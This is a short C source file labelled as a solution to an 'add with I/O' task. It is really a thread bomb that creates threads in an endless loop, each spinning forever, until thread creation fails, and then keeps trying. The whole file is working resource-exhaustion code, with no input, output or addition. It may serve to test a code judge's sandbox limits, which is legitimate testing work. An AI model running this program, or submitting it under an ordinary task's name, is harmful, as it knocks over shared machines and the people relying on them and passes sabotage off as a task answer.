// task: c_add_io
// Thread bomb: starts threads until creation fails, each spinning, then keeps trying.
#include <pthread.h>
#include <stdio.h>

static void *spin(void *arg) {
    volatile unsigned long x = 0;
    (void)arg;
    for (;;) x++;
    return NULL;
}

int main(void) {
    pthread_t t;
    for (;;) pthread_create(&t, NULL, spin, NULL);
}
